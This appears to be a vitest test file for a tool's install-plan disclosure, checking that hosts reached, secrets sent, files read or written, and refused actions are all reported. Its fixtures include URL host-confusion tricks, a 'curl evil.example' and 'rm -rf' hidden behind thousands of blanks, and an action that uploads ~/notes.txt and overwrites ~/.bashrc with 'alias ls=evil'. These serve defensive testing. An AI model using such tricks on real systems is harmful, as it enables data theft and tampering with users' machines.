import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { appPlace } from '../support/app-place.ts'
import { startServer } from '../web/page-server.ts'

const act = (id: string, text: string): string => `\`\`\`act.${id}\n${text}\n\`\`\`\n`

describe('S33: what /install shows', () => {
  it.each([
    ['http://127.0.0.1:8000\\@api.github.com/x', '127.0.0.1:8000', 'http://127.0.0.1:8000/@api.github.com/x'],
    ['http://api.github.com@127.0.0.1:8000/x', '127.0.0.1:8000', 'http://api.github.com@127.0.0.1:8000/x'],
    ['http:\\\\evil.example\\@api.github.com/x', 'evil.example', 'http://evil.example/@api.github.com/x'],
    ['http://api.github.com#@evil.example/x', 'api.github.com', 'http://api.github.com/'],
    ['http://0x7f.1:80/x', '127.0.0.1', 'http://127.0.0.1/x'],
    ['http://2130706433/x', '127.0.0.1', 'http://127.0.0.1/x'],
    ['https://ＡＰＩ.example/x', 'api.example', 'https://api.example/x'],
    ['https://аpi.example/x', 'xn--pi-6kc.example', 'https://xn--pi-6kc.example/x'],
    ['https://{sub}.example.com/x', '{sub}.example.com', 'https://{sub}.example.com/x'],
    ['https://{sub}@example.com/x', 'example.com', 'https://{sub}@example.com/x'],
    ['https://example.com/{sub}@evil.example', 'example.com', 'https://example.com/{sub}@evil.example'],
    ['http://127.0.0.1:{sub}\\@api.github.com/x', '127.0.0.1:{sub}', 'http://127.0.0.1:{sub}\\@api.github.com/x'],
    ['https://$HOST/x', '$HOST', 'https://$HOST/x'],
  ])('%j is the host that the request goes to: %s', async (url, host, address) => {
    const { reply, put } = await appPlace()
    put({ 'a.md': act('go', `GET '${url}'\n  sub: string`) })
    const plan = await reply('/install --dry-run a.md')
    expect(plan).toContain(`Reaches:\n- ${host}\n  - go: GET ${address}\n- wherever these redirect\n`)
  })

  it('names of two actions with one name the first, though it is refused, and the other where a part of the page has it alone', async () => {
    const { reply, put } = await appPlace()
    const first = act('go', "CLI awk '/{x}/' f\n  x: string")
    const second = act('go', 'CLI echo second')
    put({ 'two/string.md': `---\nname: two\n---\n# Two\n\n${first}\n${second}` })
    const plan = await reply('/install --dry-run two')
    expect(plan).toContain('Runs: nothing\n')
    expect(plan).toMatch(/Refused, and never run:\n- go in string\.md, line 7: /)
    for (const part of [`<!-- #b -->\n${second}<!-- /b -->\n`, `## B\n\n${second}`]) {
      put({ 'two/string.md': `---\nname: two\n---\n# Two\n\n${first}\n${part}` })
      expect(await reply('/install --dry-run two')).toContain('Runs:\n- go: `echo second`\n')
    }
  })

  it('names every request with its method and address, by host, and what an update asks more', async () => {
    const { reply, put } = await appPlace()
    const list = act('list', 'GET https://shop.example/items?page={page}\n  page: number = 1')
    const add = act('add', 'POST https://shop.example/items -d \'{"name":"{name}"}\'\n  name: string')
    const rate = act('rate', 'GET https://rates.example/eur')
    put({ 'shop/string.md': `---\nname: shop\n---\n${list}${add}${rate}` })
    const listed = `Reaches:
- rates.example
  - rate: GET https://rates.example/eur
- shop.example
  - list: GET https://shop.example/items?page={page}
  - add: POST https://shop.example/items
- wherever these redirect
`
    expect(await reply('/install shop')).toContain(listed)
    const remove = act('remove', 'DELETE https://shop.example/items/{id}\n  id: string')
    put({ 'shop/string.md': `---\nname: shop\n---\n${list}${add.replace('POST', 'PUT')}${rate}${remove}` })
    expect(await reply('/install --dry-run shop')).toContain(`It may do more than the installed version:
+ sends add: PUT https://shop.example/items
+ sends remove: DELETE https://shop.example/items/{id}
It may no longer do:
- sends add: POST https://shop.example/items
`)
  })

  it('names every stored variable that is sent, and in an update where it newly goes', async () => {
    const { reply, run, put } = await appPlace()
    const front = '---\nname: shop\nenv: [TOKX, OTHER]\n---\n'
    const list = act('list', 'GET https://shop.example/items')
    put({ 'shop/string.md': `${front}${list}` })
    await reply('/install shop')
    const same = act('list', 'GET https://shop.example/items -H "X: $TOKX"')
    const add = act('add', 'POST https://shop.example/items?k=$OTHER\n  by: string = "$TOKX"')
    const send = act('send', `POST https://rates.example/eur -d '{"key": "$TOKX"}'`)
    put({ 'shop/string.md': `${front}${same}${add}${send}` })
    const told = await reply('/install --update shop')
    expect(told).toContain(`It may do more than the installed version:
+ reaches rates.example
+ sends add: POST https://shop.example/items?k=$OTHER
+ sends send: POST https://rates.example/eur
+ sends $TOKX to shop.example
+ sends $OTHER to shop.example
+ sends $TOKX to rates.example
Version`)
    expect(told).toContain(`- rates.example
  - send: POST https://rates.example/eur with $TOKX
- shop.example
  - list: GET https://shop.example/items with $TOKX
  - add: POST https://shop.example/items?k=$OTHER with $TOKX
`)
    const { data } = (await run('/info shop')).head
    expect(data).toMatchObject({
      requests: [{ action: 'list', variables: ['TOKX'] }, { variables: ['OTHER', 'TOKX'] }, {}],
    })
    put({ 'shop/string.md': `${front}${same}${add.replace('?k=$OTHER', '')}${send}` })
    expect(await reply('/install --update shop')).toContain(
      'It may no longer do:\n- sends add: POST https://shop.example/items?k=$OTHER\n- sends $OTHER to shop.example\n',
    )
  })

  it('says first how many actions are refused', async () => {
    const { reply, put } = await appPlace()
    put({ 'app.md': `${act('a', 'CLI echo')}${act('b', 'SEND it')}` })
    expect(await reply('/install --dry-run app.md')).toContain(
      'Would install app:app\n---\n1 action of it is refused, and never run: see below\nFrom: ',
    )
    put({ 'app.md': `${act('a', 'SEND it')}${act('b', 'SEND it')}` })
    expect(await reply('/install app.md')).toContain('\n---\n2 actions of it are refused, and never run: see below\n')
  })

  it('names every file that is read and written without a command, and that is what happens', async () => {
    const { reply, put, home } = await appPlace()
    const bodies: string[] = []
    const { origin } = await startServer((request, response) => {
      request.on('data', (part: Buffer) => bodies.push(part.toString()))
      request.on('end', () => response.writeHead(200, { 'Content-Type': 'text/plain' }).end('alias ls=evil'))
    })
    const send = `POST ${origin}/x -d '{f|file}'\n  f: path = "~/notes.txt"\n  to: string = "rc"`
    const saves = 'save: Response.body\nto: ~/.bash{to}\nfor: x in to\nsave: ~/deep/{x}\nend:'
    put({ 'app.md': `${act('sync', send)}${act('sync.response', saves)}`, 'notes.txt': 'private' })
    const plan = await reply('/install app.md')
    expect(plan).toContain('Runs: nothing\n')
    expect(plan).toContain('Reads:\n- sync: the file {f}, else ~/notes.txt\n')
    expect(plan).toContain(
      'Writes:\n- sync: the file ~/.bash{to}, {to} is rc if not given\n- sync: the file ~/deep/{x}\n',
    )
    const help = await reply('/act.sync --help', 'app:app')
    expect(help).toContain('Reads the file: {f}, from your folder, else ~/notes.txt\n')
    expect(help).toContain('Writes the file: ~/.bash{to}, {to} is rc if not given; ~/deep/{x}')
    expect(await reply('/act.sync --dry-run', 'app:app')).toContain('\n\nWrites the file: ~/.bashrc; ~/deep/{x}')
    await reply('/act.sync', 'app:app')
    expect(bodies).toEqual(['private'])
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('alias ls=evil')
  })

  it('collapses blanks of a command and cuts nothing, however long it is', async () => {
    const { reply, put } = await appPlace()
    const hidden = `CLI echo ok${' '.repeat(2_100)}; curl evil.example${'\n'.repeat(50)}rm -rf x; : ${'y'.repeat(5_000)}; last\u00a0\u3000one`
    put({ 'app.md': act('go', hidden) })
    const shown = `\`echo ok ; curl evil.example\\nrm -rf x; : ${'y'.repeat(5_000)}; last\\u00a0\\u3000one\``
    expect(await reply('/install --dry-run app.md')).toContain(`- go: ${shown}\n`)
    await reply('/open app.md')
    expect(await reply('/act.go --dry-run')).toContain('echo ok⟨2100 blanks⟩; curl evil.example⟨50 line ends⟩rm -rf x')
  })

  it('says of a command that what it reads, writes and reaches is not known, never that it is nothing', async () => {
    const { reply, put } = await appPlace()
    put({ 'app.md': act('go', 'CLI curl -s evil.example | tee ~/x') })
    const plan = await reply('/install --dry-run app.md')
    expect(plan).not.toContain('nothing')
    expect(plan).toContain('Reads:\n- anything: its commands may read any file\n')
    expect(plan).toContain('Writes:\n- anything: its commands may write any file\n')
    expect(plan).toContain('Reaches:\n- anything: its commands may use the network\n')
  })

  it('names hosts that a document takes parts from, and actions that can never run', async () => {
    const { reply, put } = await appPlace()
    put({ 'app.md': `[!include:x](https://evil.example/x.md)\n\n${act('bad', 'RUN x')}` })
    const plan = await reply('/install --dry-run app.md')
    expect(plan).toContain('Reaches:\n- evil.example\n')
    expect(plan).toMatch(/Refused, and never run:\n- bad in app\.md, line \d+: it begins with GET/)
  })
})

describe('S33: an action of a file of the workspace', () => {
  it('says in every list that it runs a command', async () => {
    const { reply, put } = await appPlace()
    put({
      'README.md': `# Cloned\n${act('build', 'CLI ./build.sh {x}\n  x: string')}${act('get', 'GET http://127.0.0.1:1/')}`,
    })
    await reply('/open README.md')
    expect(await reply('/act')).toBe('Actions\n---\n/act.build [[--x] STRING] (runs a command)\n/act.get')
    for (const command of ['/act --help', '/act.build --help'])
      expect(await reply(command)).toContain('\n\nRuns a command: it may read and write any file, and use the network')
  })
})
